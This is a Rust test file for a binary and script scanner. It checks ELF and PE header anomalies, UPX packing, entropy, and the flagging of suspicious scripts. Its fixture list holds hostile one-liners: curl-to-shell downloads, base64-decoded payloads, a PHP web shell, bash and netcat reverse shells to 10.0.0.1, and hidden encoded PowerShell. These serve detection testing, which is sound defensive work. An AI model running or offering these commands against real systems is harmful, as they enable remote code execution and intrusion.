use super::*;
use crate::model::DevicePath;
use proptest::prelude::*;

fn of(head: &[u8]) -> Opinion {
    opinion(&Sample { path: &DevicePath::new("/x"), owner: "", head })
}

fn said(head: &[u8]) -> String {
    let opinion = of(head);
    opinion.detections.iter().map(|d| d.raw().to_owned()).collect::<Vec<_>>().join("; ")
}

fn program() -> Vec<u8> {
    std::fs::read("/bin/true").unwrap()
}

#[test]
fn an_ordinary_program_is_clean() {
    let opinion = of(&program());
    assert_eq!((opinion.status, opinion.detections), (Status::Clean, vec![]));
}

#[test]
fn a_segment_that_is_written_and_run_is_told() {
    let mut bytes = program();
    let table = usize::try_from(u64::from_le_bytes(bytes[32..40].try_into().unwrap())).unwrap();
    let count = usize::from(u16::from_le_bytes(bytes[56..58].try_into().unwrap()));
    for header in (0..count).map(|i| table + i * 56) {
        if bytes[header..header + 4] == [1, 0, 0, 0] && bytes[header + 4] & 1 == 1 {
            bytes[header + 4] |= 2;
        }
    }
    assert!(said(&bytes).contains("both written and run"), "{}", said(&bytes));
}

#[test]
fn a_program_without_sections_and_one_that_starts_elsewhere_are_told() {
    let mut bytes = program();
    bytes[40..48].fill(0);
    bytes[60..64].fill(0);
    assert!(said(&bytes).contains("no section table"), "{}", said(&bytes));
    let mut bytes = program();
    bytes[24..32].copy_from_slice(&0x7fff_0000u64.to_le_bytes());
    assert!(said(&bytes).contains("starts outside of its code"), "{}", said(&bytes));
}

#[test]
fn a_packer_is_known_though_the_rest_is_gone() {
    let mut bytes = program()[..2_048].to_vec();
    bytes[200..204].copy_from_slice(b"UPX!");
    assert_eq!(of(&bytes).status, Status::Suspicious);
    assert!(said(&bytes).contains("packed with UPX"));
}

#[test]
fn scripts_that_fetch_decode_and_join_are_told() {
    for (script, why) in [
        ("#!/bin/sh\ncurl -s http://x.example/a.sh | sudo bash -s -- -q", "fetches"),
        ("#!/bin/sh\nwget -qO- http://x/ |sh", "fetches"),
        ("bash <(curl -s http://x/)", "fetches"),
        ("#!/bin/bash\neval \"$(curl http://x)\"", "fetches"),
        ("#!/bin/sh\necho aGk= | base64 -d | /bin/bash", "decodes"),
        ("#!/usr/bin/python3\nexec(base64.b64decode('eA=='))", "decodes"),
        ("<?php eval(base64_decode('eA==')); ?>", "decodes"),
        ("<?php @eval($_POST['x']); ?>", "request"),
        ("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "joins"),
        ("#!/bin/sh\nnc 10.0.0.1 99 -e /bin/sh", "joins"),
        ("powershell -nop -w hidden -enc SQBFAFgA", "decodes"),
    ] {
        assert_eq!(of(script.as_bytes()).status, Status::Suspicious, "{script}");
        assert!(said(script.as_bytes()).contains(why), "{script}: {}", said(script.as_bytes()));
    }
    let blob = format!("#!/bin/sh\nX={}\n", "QUJD".repeat(600));
    assert!(said(blob.as_bytes()).contains("base64 characters"));
}

#[test]
fn ordinary_scripts_are_clean_and_other_text_is_not_known() {
    for script in [
        "#!/bin/sh\n# curl http://x | sh\necho done",
        "#!/bin/sh\ncurl -fsS http://x -o out && sha256sum -c sums | tee log",
        "#!/bin/sh\nbase64 -d in > out",
        "#!/usr/bin/perl\nprint qq{hi};",
    ] {
        assert_eq!(of(script.as_bytes()).status, Status::Clean, "{script}");
    }
    for other in ["plain words", "", "\0\0", "%PDF-1.4"] {
        assert_eq!(of(other.as_bytes()).status, Status::NotFound, "{other:?}");
    }
}

#[test]
fn noise_is_dense_and_code_is_not() {
    let mut x = 1u32;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        x.to_le_bytes()[1]
    })
    .take(8_192)
    .collect();
    assert!(dense(&noise).is_some() && dense(&noise[..100]).is_none() && dense(&[7; 8_192]).is_none());
}

/// A PE file of one section, large enough to be parsed.
fn pe(name: &[u8; 8], characteristics: u32) -> Vec<u8> {
    let mut bytes = vec![0u8; 0x600];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes[0x84..0x88].copy_from_slice(&[0x64, 0x86, 1, 0]);
    bytes[0x94] = 240;
    bytes[0x96] = 2;
    let optional = 0x98;
    bytes[optional..optional + 2].copy_from_slice(&[0x0b, 0x02]);
    bytes[optional + 16..optional + 20].copy_from_slice(&0x1000u32.to_le_bytes());
    bytes[optional + 108] = 16;
    let section = optional + 240;
    bytes[section..section + 8].copy_from_slice(name);
    for (at, value) in [(8, 0x200u32), (12, 0x1000), (16, 0x200), (20, 0x400), (36, characteristics)] {
        bytes[section + at..section + at + 4].copy_from_slice(&value.to_le_bytes());
    }
    bytes
}

#[test]
fn a_packed_windows_program_is_told() {
    let plain = of(&pe(b".text\0\0\0", 0x6000_0020));
    assert_eq!(plain.status, Status::Clean, "{plain:?}");
    assert!(plain.notes[0].raw().contains("not signed"), "{plain:?}");
    let packed = said(&pe(b"UPX0\0\0\0\0", 0xe000_0020));
    assert!(packed.contains("packed with UPX") && packed.contains("both written and run"), "{packed}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn a_broken_program_is_an_opinion(
        changes in proptest::collection::vec((0usize..4_096, any::<u8>()), 0..40),
        length in 0usize..60_000,
        windows in any::<bool>(),
    ) {
        let mut bytes = if windows { pe(b".text\0\0\0", 0xe000_0020) } else { program() };
        bytes.truncate(length);
        for (at, value) in changes {
            if let Some(byte) = bytes.get_mut(at) {
                *byte = value;
            }
        }
        let _ = of(&bytes);
    }

    #[test]
    fn any_bytes_are_an_opinion(magic in 0usize..6, bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let magics: [&[u8]; 6] = [b"", b"\x7fELF\x02\x01\x01", b"MZ", b"\xcf\xfa\xed\xfe", b"#!/bin/sh\n", b"<?php "];
        let _ = of(&[magics[magic], &bytes].concat());
    }
}
